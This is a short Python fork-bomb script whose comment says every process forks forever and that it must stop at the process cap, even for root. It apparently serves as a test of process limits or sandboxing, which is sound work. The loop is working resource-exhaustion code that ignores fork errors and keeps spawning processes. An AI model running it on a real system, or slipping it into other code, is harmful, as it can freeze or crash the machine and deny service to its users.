# Fork bomb: every process forks forever. Must stop at the process cap, even for root.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
